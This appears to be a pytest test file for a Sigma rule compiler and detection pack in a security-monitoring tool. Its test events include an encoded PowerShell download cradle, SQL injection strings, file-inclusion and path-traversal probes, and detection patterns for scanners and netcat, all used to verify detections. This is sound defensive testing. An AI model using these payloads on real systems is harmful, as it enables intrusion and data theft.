"""Sigma rules: the compiler's semantics on hand-written events, the shipped pack on simulated estates,
and user rules dropped into a folder."""

from __future__ import annotations

import json
import textwrap
from datetime import datetime, timedelta, timezone
from pathlib import Path

import duckdb
import orjson
import pytest

from storewatch.correlate.attack import technique
from storewatch.detect import sigma
from storewatch.detect.detection import DetectionError
from storewatch.detect.engine import detect
from storewatch.detect.registry import load_user_rules
from storewatch.evaluate import matches
from storewatch.store import db
from storewatch.store.schema import create_table_sql

T0 = datetime(2026, 11, 16, 10, 0, tzinfo=timezone.utc)
WEB = {"class_name": "HTTP Activity", "source_format": "nginx", "channel": "web"}
PROC = {"class_name": "Process Activity", "activity": "process_create", "source_format": "windows", "channel": "endpoint"}


def events_db(rows: list[dict]) -> duckdb.DuckDBPyConnection:
    """An in-memory store holding only `rows` (event ids e0, e1, ... one minute apart unless given)."""
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    con.execute(create_table_sql("events"))
    for i, row in enumerate(rows):
        row = {"event_id": f"e{i}", "time": T0 + timedelta(minutes=i), **row}
        cols = ", ".join(row)
        con.execute(f"INSERT INTO events ({cols}) VALUES ({', '.join('?' * len(row))})", list(row.values()))
    return con


def write_rule(folder: Path, detection: str, logsource: str = "category: webserver", extra: str = "",
               name: str = "rule") -> Path:
    path = folder / f"{name}.yml"
    path.write_text(
        "title: Test rule\nid: 5c1a2f1e-3b8a-4a51-9f53-0e0b3f2b2d11\nstatus: test\n"
        f"logsource:\n  {logsource}\ndetection:\n{textwrap.indent(detection.strip(), '  ')}\n"
        f"level: high\ntags: [attack.t1190]\n{extra}")
    return path


def matched(tmp_path: Path, rows: list[dict], detection: str, **kw: str) -> set[str]:
    """Ids of the events a rule matches (the union of its alerts' sample ids; tables here are tiny)."""
    table = sigma.load_rule(write_rule(tmp_path, detection, **kw)).query(events_db(rows))
    return {eid for ids in table.column("event_ids").to_pylist() for eid in ids}


def web(**fields) -> dict:
    return {**WEB, "src_ip": "203.0.113.9", **fields}


# --- compiler semantics -------------------------------------------------------------------------------

def test_strings_match_case_insensitively_unless_cased(tmp_path: Path) -> None:
    rows = [web(user_agent="sqlmap/1.7.2#stable"), web(user_agent="SQLMap/1.8"), web(user_agent="Mozilla/5.0")]
    assert matched(tmp_path, rows, "sel:\n  c-useragent|contains: SQLMAP\ncondition: sel") == {"e0", "e1"}
    assert matched(tmp_path, rows, "sel:\n  c-useragent|contains|cased: sqlmap\ncondition: sel") == {"e0"}
    assert matched(tmp_path, rows, "sel:\n  c-useragent: 'mozilla/5.0'\ncondition: sel") == {"e2"}


def test_contains_startswith_endswith_and_all(tmp_path: Path) -> None:
    rows = [web(url_path="/admin/login"), web(url_path="/shop/admin"), web(url_path="/login/admin/x")]
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem|startswith: /ADMIN\ncondition: sel") == {"e0"}
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem|endswith: /admin\ncondition: sel") == {"e1"}
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem|contains: admin\ncondition: sel") == {"e0", "e1", "e2"}
    both = "sel:\n  cs-uri-stem|contains|all: [admin, login]\ncondition: sel"
    assert matched(tmp_path, rows, both) == {"e0", "e2"}


def test_wildcards_and_escapes(tmp_path: Path) -> None:
    rows = [web(url_path="/abc/x"), web(url_path="/ac"), web(url_path="/a*c"), web(url_path="/xa_bzc"),
            web(url_path="/xaxbzc"), web(url_path="/100%")]
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '/a?c*'\ncondition: sel") == {"e0", "e2"}
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '/a\\*c'\ncondition: sel") == {"e2"}
    # SQL LIKE's own wildcards in a value are literal characters, not wildcards.
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '*a_b*c'\ncondition: sel") == {"e3"}
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '*0%'\ncondition: sel") == {"e5"}


def test_one_text_between_wildcards_of_other_shapes(tmp_path: Path) -> None:
    # Neither contains, starts nor ends with: a LIKE pattern, with no parameter left unused (DuckDB refuses that).
    rows = [web(url_path="/a1b"), web(url_path="/a1"), web(url_path="/a1bc"), web(url_path="/x1y")]
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '*1?'\ncondition: sel") == {"e0", "e3"}
    assert matched(tmp_path, rows, "sel:\n  cs-uri-stem: '?a1*'\ncondition: sel") == {"e0", "e1", "e2"}


def test_lists_are_or_and_selections_combine_with_and_or_not(tmp_path: Path) -> None:
    rows = [web(http_method="GET", url_path="/a"), web(http_method="POST", url_path="/b"),
            web(http_method="PUT", url_path="/a"), web(url_path="/a")]
    assert matched(tmp_path, rows, "sel:\n  cs-method: [get, post]\ncondition: sel") == {"e0", "e1"}
    assert matched(tmp_path, rows, "a:\n  cs-method: PUT\nb:\n  cs-uri-stem: /b\ncondition: a or b") == {"e1", "e2"}
    assert matched(tmp_path, rows, "a:\n  cs-uri-stem: /a\nb:\n  cs-method: GET\ncondition: a and not b") \
        == {"e2", "e3"}  # e3 has no method at all: `not` of a missing field matches
    assert matched(tmp_path, rows, "s1:\n  cs-method: GET\ns2:\n  cs-method: PUT\ncondition: 1 of s*") == {"e0", "e2"}
    # Below two `not`s a missing field still counts as not matching: e3 is in neither.
    assert matched(tmp_path, rows, "a:\n  cs-method: GET\ncondition: not (not a)") == {"e0"}
    assert matched(tmp_path, rows, "a:\n  cs-method: [GET, POST, PUT]\nb:\n  cs-uri-stem: /b\n"
                                   "condition: a and not (b or not a)") == {"e0", "e2"}


def test_a_list_of_values_matches_as_its_values_do_one_by_one(tmp_path: Path) -> None:
    # A field's list of plain values is compiled to one regular expression: each value keeps its meaning,
    # its characters literal (regex and LIKE syntax included), its wildcards Sigma's, case folded.
    values = ["a.c", "(x|y)", "c:\\\\temp\\\\*", "*50%", "*under_score*", "*é?e", "*line\nbreak*", "[z]*", "*^$",
              "/EXACT"]
    paths = ["a.c", "abc", "(x|y)", "x", "c:\\temp\\run.exe", "c:\\tempo\\run.exe", "/100-50%", "/50%x",
             "/under_score/", "/underXscore/", "/ÉTE", "/ete", "/line\nbreak", "/line break", "[z]zz", "z", "/a^$",
             "/a$", "/exact", "/exact/"]
    rows = [web(url_path=p) for p in paths]
    listed = matched(tmp_path, rows, f"sel:\n  cs-uri-stem: [{', '.join(json.dumps(v) for v in values)}]\ncondition: sel")
    alone = set().union(*(matched(tmp_path, rows, f"sel:\n  cs-uri-stem: {json.dumps(v)}\ncondition: sel")
                          for v in values))
    assert listed == alone == {f"e{i}" for i in (0, 2, 4, 6, 8, 10, 12, 14, 16, 18)}
    keywords = matched(tmp_path, [web(url_path="/a", message="Union Select 1"), web(url_path="/b", message="union  select"),
                                  web(url_path="/x.y"), web(url_path="/xzy")], "kw:\n  - union select\n  - x.y\ncondition: kw")
    assert keywords == {"e0", "e2"}


def test_null_numbers_and_comparisons(tmp_path: Path) -> None:
    rows = [web(http_status=200, referrer="https://x/"), web(http_status=404), web(http_status=500, referrer="")]
    assert matched(tmp_path, rows, "sel:\n  cs-referrer: null\ncondition: sel") == {"e1", "e2"}
    assert matched(tmp_path, rows, "sel:\n  sc-status: 404\ncondition: sel") == {"e1"}
    assert matched(tmp_path, rows, "sel:\n  sc-status|gte: 404\ncondition: sel") == {"e1", "e2"}
    assert matched(tmp_path, rows, "sel:\n  cs-referrer|exists: true\ncondition: sel") == {"e0", "e2"}


def test_regex_is_case_sensitive_unless_flagged(tmp_path: Path) -> None:
    rows = [web(user_agent="Nikto/2.5"), web(user_agent="nikto/2.1")]
    assert matched(tmp_path, rows, "sel:\n  c-useragent|re: '^Nikto/\\d'\ncondition: sel") == {"e0"}
    assert matched(tmp_path, rows, "sel:\n  c-useragent|re|i: '^nikto/\\d'\ncondition: sel") == {"e0", "e1"}


def test_cidr(tmp_path: Path) -> None:
    rows = [web(src_ip="10.1.2.3"), web(src_ip="10.200.0.1"), web(src_ip="110.1.2.3"), web(src_ip="192.168.1.7")]
    assert matched(tmp_path, rows, "sel:\n  c-ip|cidr: [10.0.0.0/9, 192.168.1.0/24]\ncondition: sel") == {"e0", "e3"}
    rows = [web(src_ip="fc12::1"), web(src_ip="fd00:1::2"), web(src_ip="fe80::1"), web(src_ip="2001:db8::fc12")]
    assert matched(tmp_path, rows, "sel:\n  c-ip|cidr: fc00::/7\ncondition: sel") == {"e0", "e1"}


def test_windash_and_base64offset(tmp_path: Path) -> None:
    import base64

    cmd = "powershell.exe -nop -enc " + base64.b64encode(b"IEX (New-Object Net.WebClient).DownloadString('http://x')").decode()
    rows = [{**PROC, "host": "POS-1", "command_line": cmd},
            {**PROC, "host": "POS-2", "command_line": "powershell.exe /enc AAAA"},
            {**PROC, "host": "POS-3", "command_line": "powershell.exe -File update.ps1"}]
    proc = {"logsource": "category: process_creation\n  product: windows"}
    assert matched(tmp_path, rows, "sel:\n  CommandLine|windash|contains: ' -enc '\ncondition: sel", **proc) \
        == {"e0", "e1"}
    assert matched(tmp_path, rows, "sel:\n  CommandLine|base64offset|contains: DownloadString\ncondition: sel",
                   **proc) == {"e0"}


def test_keywords_search_message_url_and_command_line(tmp_path: Path) -> None:
    rows = [web(url_path="/x", url_query="cmd=whoami"), web(url_path="/y", message="WHOAMI in body"),
            web(url_path="/z")]
    assert matched(tmp_path, rows, "kw:\n  - whoami\ncondition: kw") == {"e0", "e1"}


def test_web_uri_matches_as_logged_and_url_decoded(tmp_path: Path) -> None:
    rows = [web(url_path="/p", url_query="id=1%27%20OR%20%271%27=%271"), web(url_path="/p", url_query="id=1' or '1'='1"),
            web(url_path="/p", url_query="id=%C3%28"), web(url_path="/p", url_query="id=42")]
    assert matched(tmp_path, rows, "sel:\n  c-uri|contains: \"' or '1'='1\"\ncondition: sel") == {"e0", "e1"}


def test_alerts_group_per_entity_and_day_with_min_events(tmp_path: Path) -> None:
    rows = [web(src_ip="198.51.100.1", url_path=f"/.env{i}") for i in range(4)] + [web(src_ip="198.51.100.2", url_path="/.env")]
    rule = write_rule(tmp_path, "sel:\n  cs-uri-stem|startswith: /.env\ncondition: sel",
                      extra="storewatch:\n  scenario: web_attack_scan\n  min_events: 2\n")
    det = sigma.load_rule(rule)
    table = det.query(events_db(rows)).to_pylist()
    assert det.scenario == "web_attack_scan" and det.attack == ("T1190",) and det.severity == "high"
    assert len(table) == 1  # the single request from .2 is below min_events
    alert = table[0]
    assert alert["key"] == "ip:198.51.100.1|2026-11-16" and alert["event_count"] == 4
    assert alert["entities"] == [{"type": "ip", "value": "198.51.100.1"}]
    evidence = orjson.loads(alert["evidence"])
    assert evidence["ip"] == "198.51.100.1" and evidence["distinct_urls"] == 4 and evidence["events"] == 4


@pytest.mark.parametrize("detection, logsource, extra, feature", [
    ("sel:\n  NoSuchField: x\ncondition: sel", "category: webserver", "", "NoSuchField"),
    ("sel:\n  c-ip: x\ncondition: sel", "category: antivirus", "", "antivirus"),
    ("sel:\n  c-useragent|re: '(?=x)y'\ncondition: sel", "category: webserver", "", "Regular expression"),
    ("sel:\n  c-ip|minute: 5\ncondition: sel", "category: webserver", "", "timestamp"),
    ("sel:\n  c-ip: x\ncondition: sel | count() > 5", "category: webserver", "", "condition"),
    ("sel:\n  c-ip: x\ncondition: sel", "category: webserver", "storewatch: {groupby: c-ip}\n", "hints"),
    ("sel:\n  c-ip: x\ncondition: sel", "category: webserver", "storewatch: {group_by: cs-method}\n", "group_by"),
    ("sel:\n  c-ip: x\ncondition: sel", "category: webserver", "storewatch: {habit: c-ip}\n", "habit"),
    ("sel:\n  c-ip: x\ncondition: sel", "category: webserver", "storewatch: {habit: [cs-method]}\n", "cs-method"),
])
def test_unsupported_features_fail_loudly_naming_file_and_feature(tmp_path: Path, detection, logsource, extra,
                                                                   feature) -> None:
    path = write_rule(tmp_path, detection, logsource=logsource, extra=extra, name="user_rule")
    with pytest.raises(DetectionError) as err:
        sigma.load_rule(path)
    assert "user_rule.yml" in str(err.value) and feature in str(err.value)


def test_collections_and_dangling_correlations_are_refused_by_name(tmp_path: Path) -> None:
    coll = tmp_path / "coll.yml"
    coll.write_text(write_rule(tmp_path, "sel:\n  c-ip: x\ncondition: sel").read_text() + "---\naction: global\n")
    (tmp_path / "rule.yml").unlink()
    corr = tmp_path / "corr.yml"
    corr.write_text("title: c\ncorrelation:\n  type: event_count\n  rules: [nowhere]\n  group-by: [c-ip]\n"
                    "  timespan: 5m\n  condition: {gte: 10}\n")
    found, errors = sigma.load_rules([coll, corr])
    assert found == []
    by_file = {Path(e["source"]).name: e["error"] for e in errors}
    assert "action: global" in by_file["coll.yml"] and "unknown rule(s) nowhere" in by_file["corr.yml"]


# --- correlation rules --------------------------------------------------------------------------------

FAILED_SSH = """title: Failed SSH login
name: ssh_failed
logsource: {product: linux, service: sshd}
detection:
  sel: {outcome: failure}
  condition: sel
level: low
"""
SSH = {"class_name": "Authentication", "activity": "logon", "source_format": "linux_auth", "event_code": "sshd",
       "channel": "endpoint", "host": "web-01"}


def correlation(tmp_path: Path, body: str, base: str = FAILED_SSH) -> list[dict]:
    """Alerts of a correlation (in its own file) over a base rule in another file of the folder."""
    (tmp_path / "base.yml").write_text(base)
    (tmp_path / "corr.yml").write_text(f"title: Correlated\nlevel: high\ncorrelation:\n{textwrap.indent(body.strip(), '  ')}\n")
    found, errors = load_user_rules(tmp_path)
    assert not errors, errors
    return found


def test_event_count_counts_per_group_within_the_timespan(tmp_path: Path) -> None:
    dets = correlation(tmp_path, "type: event_count\nrules: [ssh_failed]\ngroup-by: [src_ip]\ntimespan: 10m\n"
                                 "condition: {gte: 5}")
    assert [d.id for d in dets] == ["sigma.corr"]  # the base rule raises nothing alone (generate: false)
    burst = [dict(SSH, src_ip="198.51.100.7", outcome="failure", user_name=f"u{i}") for i in range(6)]
    slow = [dict(SSH, src_ip="192.0.2.50", outcome="failure", time=T0 + timedelta(minutes=15 * i)) for i in range(6)]
    ok = [dict(SSH, src_ip="198.51.100.8", outcome="success") for _ in range(8)]  # successes do not count
    alerts = dets[0].query(events_db(burst + slow + ok)).to_pylist()
    assert len(alerts) == 1
    alert = alerts[0]
    assert alert["event_count"] == 6 and {"type": "ip", "value": "198.51.100.7"} in alert["entities"]
    evidence = orjson.loads(alert["evidence"])
    assert (evidence["measured"], evidence["threshold"], evidence["src_ip"]) == (6, 5, "198.51.100.7")


def test_value_count_counts_distinct_values(tmp_path: Path) -> None:
    dets = correlation(tmp_path, "type: value_count\nrules: [ssh_failed]\ngroup-by: [src_ip]\ntimespan: 1h\n"
                                 "condition: {gte: 4, field: user_name}")
    spray = [dict(SSH, src_ip="198.51.100.7", outcome="failure", user_name=f"user{i}") for i in range(4)]
    retry = [dict(SSH, src_ip="198.51.100.9", outcome="failure", user_name="alice") for _ in range(20)]
    alerts = dets[0].query(events_db(spray + retry)).to_pylist()
    assert [orjson.loads(a["evidence"])["src_ip"] for a in alerts] == ["198.51.100.7"]


def test_temporal_and_ordered_need_every_rule_in_the_window(tmp_path: Path) -> None:
    both = FAILED_SSH + """---
title: SSH login
name: ssh_ok
logsource: {product: linux, service: sshd}
detection:
  sel: {outcome: success}
  condition: sel
level: low
"""
    fail_then_ok = [dict(SSH, src_ip="198.51.100.7", outcome=o) for o in ("failure", "failure", "success")]
    ok_then_fail = [dict(SSH, src_ip="203.0.113.5", outcome=o) for o in ("success", "failure")]
    fail_only = [dict(SSH, src_ip="192.0.2.1", outcome="failure")]
    apart = [dict(SSH, src_ip="192.0.2.2", outcome="failure", time=T0),
             dict(SSH, src_ip="192.0.2.2", outcome="success", time=T0 + timedelta(hours=3))]
    rows = fail_then_ok + ok_then_fail + fail_only + apart
    ips = lambda dets: sorted(orjson.loads(a["evidence"])["src_ip"] for a in dets[0].query(events_db(rows)).to_pylist())  # noqa: E731
    temporal = correlation(tmp_path, "type: temporal\nrules: [ssh_failed, ssh_ok]\ngroup-by: [src_ip]\ntimespan: 1h", both)
    assert ips(temporal) == ["198.51.100.7", "203.0.113.5"]
    ordered = correlation(tmp_path, "type: temporal_ordered\nrules: [ssh_failed, ssh_ok]\ngroup-by: [src_ip]\ntimespan: 1h", both)
    assert ips(ordered) == ["198.51.100.7"]


def test_generate_keeps_the_base_rule_and_aliases_join_differently_named_fields(tmp_path: Path) -> None:
    dets = correlation(tmp_path, "type: event_count\nrules: [ssh_failed]\ngroup-by: [attacker]\ntimespan: 10m\n"
                                 "aliases: {attacker: {ssh_failed: src_ip}}\ngenerate: true\ncondition: {gte: 3}")
    assert sorted(d.id for d in dets) == ["sigma.base", "sigma.corr"]
    rows = [dict(SSH, src_ip="198.51.100.7", outcome="failure") for _ in range(3)]
    corr = next(d for d in dets if d.id == "sigma.corr")
    assert orjson.loads(corr.query(events_db(rows)).to_pylist()[0]["evidence"])["attacker"] == "198.51.100.7"


# --- the shipped pack ---------------------------------------------------------------------------------

def test_shipped_rules_load_with_real_attack_ids() -> None:
    dets = sigma.detections()
    assert len(dets) >= 8 and all(d.kind == "sigma" for d in dets)
    assert {"web_attack_scan"} <= {d.scenario for d in dets}
    for det in dets:
        assert det.attack and all(technique(t) for t in det.attack), det.id


def test_shipped_pack_is_quiet_on_benign_look_alikes() -> None:
    benign = [
        web(src_ip="66.249.66.1", url_path="/products/sleeping-bag", user_agent="Mozilla/5.0 (compatible; Googlebot/2.1)"),
        web(src_ip="66.249.66.1", url_path="/search", url_query="q=sleeping+bag"),
        web(src_ip="66.249.66.1", url_path="/search", url_query="q=rock%20%27n%27%20roll"),
        web(src_ip="52.1.1.1", url_path="/healthz", user_agent="UptimeRobot/2.0"),
        web(src_ip="10.0.0.5", url_path="/admin/orders/export", url_query="sort=created_at&order=desc"),
        web(src_ip="10.0.0.5", url_path="/.well-known/security.txt", http_status=200),
        {**PROC, "host": "POS-1", "process_name": "C:\\Program Files\\Retail\\pos.exe", "command_line": "pos.exe"},
        {**PROC, "host": "POS-1", "process_name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "command_line": "powershell.exe -NoProfile -File C:\\scripts\\rotate-logs.ps1 -Days 7"},
        {"class_name": "Authentication", "activity": "sudo", "source_format": "linux_auth", "event_code": "sudo",
         "user_name": "deploy", "host": "web-01", "command_line": "/usr/bin/systemctl restart nginx",
         "attributes": '{"target_user": "root"}'},
    ]
    con = events_db([row for row in benign for _ in range(5)])  # enough volume to pass any min_events
    fired = {d.id: d.query(con).num_rows for d in sigma.detections()}
    assert not any(fired.values()), fired


def test_shipped_pack_detects_attacks_in_sample_events() -> None:
    rows = [web(src_ip="198.51.100.7", url_path="/search", url_query="q=%27%20UNION%20SELECT%20password%20FROM%20users--",
                user_agent="sqlmap/1.7")] * 3 + [
        {"class_name": "Authentication", "activity": "sudo", "source_format": "linux_auth", "event_code": "sudo",
         "user_name": "ljackson", "host": "web-01", "command_line": "/bin/bash",
         "attributes": '{"target_user": "root"}'},
        {**PROC, "host": "POS-9", "process_name": "C:\\Users\\Public\\Libraries\\svc.exe", "command_line": "svc.exe"}]
    con = events_db(rows)
    fired = {d.id for d in sigma.detections() if d.query(con).num_rows}
    assert {"sigma.web_sql_injection", "sigma.web_scanner_user_agent", "sigma.lnx_sudo_root_shell",
            "sigma.win_susp_folder_execution"} <= fired


def test_web_attack_scan_detected_in_every_estate(estate) -> None:
    labels = estate.label("web_attack_scan")
    assert labels, "the simulator planted no web attack scan"
    alerts = [a for a in estate.alerts(kind="sigma") if a["scenario"] == "web_attack_scan"]
    for label in labels:
        assert any(matches(a, label) for a in alerts), label["description"]
        scanner_ips = {e["value"] for e in label["entities"] if e["type"] == "ip"}
        assert scanner_ips <= {e["value"] for a in alerts for e in a["entities"]}


def test_sigma_alerts_only_on_labelled_attacks(estate) -> None:
    attacks = [lb for lb in estate.labels if lb["severity"] != "benign"]
    for alert in estate.alerts(kind="sigma"):
        assert any(matches(alert, lb) for lb in attacks), (alert["rule_id"], alert["entities"])


# --- user rules ---------------------------------------------------------------------------------------

def test_user_sigma_rule_in_a_folder_is_loaded_and_fires(estate, tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    write_rule(folder, "sel:\n  cs-uri-stem: /healthz\ncondition: sel", name="healthz_poll",
               extra="storewatch:\n  scenario: uptime_check\n  min_events: 10\n")
    found, errors = load_user_rules(folder)
    assert errors == [] and [d.id for d in found] == ["sigma.healthz_poll"]
    with db.opened(estate.ws, read_only=True) as con:
        table = found[0].query(con)
    monitors = {e["value"] for lb in estate.benign if lb["scenario"] == "uptime_monitor" for e in lb["entities"]}
    assert monitors and monitors <= {e["value"] for ents in table.column("entities").to_pylist() for e in ents}


def test_user_sigma_rule_raises_alerts_through_detect(ws, run, tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.write_text("".join(
        f'203.0.113.5 - - [16/Nov/2026:10:{i:02d}:00 +0000] "GET /cgi-bin/luci;stok=/locale HTTP/1.1" 404 12 "-" "curl/8"\n'
        for i in range(4)))
    run(log)
    rules = tmp_path / "rules"
    rules.mkdir()
    write_rule(rules, "sel:\n  cs-uri-stem|contains: /cgi-bin/luci\ncondition: sel", name="luci_probe")
    report = detect(ws, rules_dir=rules)
    assert report.per_detection["sigma.luci_probe"] == 1 and not report.errors
    with db.opened(ws, read_only=True) as con:
        rows = con.execute("SELECT kind, severity, attack, summary FROM alerts WHERE rule_id = 'sigma.luci_probe'").fetchall()
    assert rows == [("sigma", "high", ["T1190"], '4 event(s) matched "Test rule" for ip 203.0.113.5.')]


def test_a_product_fallback_reaches_every_field_its_records_keep(tmp_path: Path) -> None:
    from sigma.rule import SigmaLogSource

    from storewatch.detect.sigma import mapping

    doc = tmp_path / "mapping.yml"
    doc.write_text("fields: {Image: process_name}\nkeywords: [message]\nlogsources: {}\n"
                   "fallbacks: {windows: \"json_extract_string(attributes, '$.event_data.{field}')\"}\n")
    m = mapping.load(doc)
    windows = m.for_logsource(SigmaLogSource(category="process_access", product="windows"))
    assert windows.expressions("Image") == ("process_name",)  # explicit mappings still win
    assert windows.expressions("GrantedAccess") == ("json_extract_string(attributes, '$.event_data.GrantedAccess')",)
    with pytest.raises(mapping.Unsupported):  # a name that is no plain field never reaches the SQL
        windows.expressions("x') OR true --")
    with pytest.raises(mapping.Unsupported, match="GrantedAccess"):  # other products keep refusing by name
        m.for_logsource(SigmaLogSource(category="webserver")).expressions("GrantedAccess")


def test_refused_sudo_to_a_shell_is_no_root_shell() -> None:
    """sudo logs a refusal (`user NOT in sudoers`, wrong passwords) with the command that was asked for."""
    sudo = {"class_name": "Authentication", "activity": "sudo", "source_format": "linux_auth", "event_code": "sudo",
            "user_name": "eve", "host": "web-01", "command_line": "/bin/bash", "attributes": '{"target_user": "root"}'}
    [rule] = [d for d in sigma.detections() if d.id == "sigma.lnx_sudo_root_shell"]
    assert rule.query(events_db([{**sudo, "outcome": "failure", "reason": "user NOT in sudoers"}])).num_rows == 0
    assert rule.query(events_db([{**sudo, "outcome": "success"}])).num_rows == 1


def test_an_administrators_habitual_root_shells_raise_only_their_first_day() -> None:
    """`sudo -i` every morning is how some administrators work: the rule's `habit: [host]` hint alerts an
    account's first day of root shells on a host and is quiet on its later days there; a root shell by an
    account new to it, or by the administrator on a host new to them, still stands out."""
    def shell(day: int, user: str, host: str, outcome: str = "success") -> dict:
        return {"class_name": "Authentication", "activity": "sudo", "outcome": outcome, "source_format": "linux_auth",
                "event_code": "sudo", "user_name": user, "host": host, "command_line": "/bin/bash",
                "attributes": '{"target_user": "root"}', "time": T0 + timedelta(days=day, minutes=user == "eve")}
    rows = [shell(day, "admin", "web-01") for day in range(5)]  # the administrator's habit
    rows += [shell(3, "eve", "web-01"), shell(3, "admin", "db-01")]  # new account; the admin on a new host
    rows += [shell(4, "mallory", "web-01", "failure")]  # refused: no root shell at all
    [rule] = [d for d in sigma.detections() if d.id == "sigma.lnx_sudo_root_shell"]
    keys = sorted(a["key"] for a in rule.query(events_db(rows)).to_pylist())
    assert keys == ["user:admin|2026-11-16", "user:admin|2026-11-19", "user:eve|2026-11-19"]
    day3 = next(a for a in rule.query(events_db(rows)).to_pylist() if a["key"] == "user:admin|2026-11-19")
    assert orjson.loads(day3["evidence"])["sample_hosts"] == ["db-01"]  # web-01 that day was habit


def test_a_stream_wrapper_is_an_inclusion_only_as_a_parameter_value() -> None:
    """A crawler following a page's broken template links (`/misc/nmh//"file://$file/"`, as MJ12bot did on a
    real site) asks for wrappers in the path and gets 404s; an inclusion passes the wrapper to a parameter."""
    [rule] = [d for d in sigma.detections() if d.id == "sigma.web_path_traversal"]
    crawler = [web(src_ip="144.76.95.39", url_path=path, http_status=404, user_agent="Mozilla/5.0 (compatible; MJ12bot/v1.4.4)")
               for path in ("/misc/nmh//%22file://$file/%22", "/scripts//%22file://$file/%22", "/docs/php://input-notes")] * 2
    assert rule.query(events_db(crawler)).num_rows == 0
    probes = [web(url_path="/index.php", url_query=query, http_status=404) for query in
              ("page=php://filter/convert.base64-encode/resource=index", "f=file:///etc/hosts",
               "inc=expect%3A%2F%2Fid", "lang=..%2F..%2Fetc%2Fshadow")]
    [alert] = rule.query(events_db(probes)).to_pylist()
    assert alert["event_count"] == 4 and alert["entities"] == [{"type": "ip", "value": "203.0.113.9"}]


def test_pam_fields_of_linux_auth_rules(tmp_path: Path) -> None:
    """Sigma's `service: auth` rules name PAM's own fields; a host name in rhost= is kept as attributes.rhost."""
    pam = {"class_name": "Authentication", "activity": "pam_failure", "outcome": "failure", "source_format": "linux_auth",
           "event_code": "sshd", "reason": "authentication failure", "user_name": "root", "host": "web-01"}
    rows = [{**pam, "src_ip": "203.0.113.7"}, {**pam, "attributes": '{"rhost": "scanner.example.net"}'},
            {**pam, "reason": None, "user_name": None, "activity": "log", "outcome": "unknown"}]
    detection = """
selection:
  pam_message: authentication failure
  pam_user|contains: root
  pam_rhost|contains: '.'
condition: selection
"""
    assert matched(tmp_path, rows, detection, logsource="product: linux\n  service: auth") == {"e0", "e1"}


def test_logsources_storewatch_does_not_read_are_refused_by_name(tmp_path: Path) -> None:
    """A Linux process-creation rule would load and never match: it is refused, saying why."""
    path = write_rule(tmp_path, "sel:\n  Image|endswith: /nc\ncondition: sel", logsource="category: process_creation\n  product: linux")
    with pytest.raises(DetectionError, match="reads no Linux process events"):
        sigma.load_rule(path)


def test_a_rule_pack_load_report_groups_refusals_by_reason(tmp_path: Path) -> None:
    from storewatch.detect.registry import refusal_summary

    for i, (logsource, field) in enumerate([("category: proxy", "c-uri"), ("category: proxy", "c-ip"),
                                            ("category: antivirus", "c-ip"), ("category: webserver", "nonsense")]):
        write_rule(tmp_path, f"sel:\n  {field}: x\ncondition: sel", logsource=logsource, name=f"r{i}")
    found, errors = load_user_rules(tmp_path)
    summary = refusal_summary(errors)
    assert found == [] and [g["count"] for g in summary] == [3, 1]
    assert summary[0]["reason"].startswith("unsupported Sigma feature: logsource category '…' is not mapped")
    assert summary[1]["examples"] == ["r3.yml: unsupported Sigma feature: field 'nonsense' is not mapped to the events table (see sigma/mapping.yml)"]
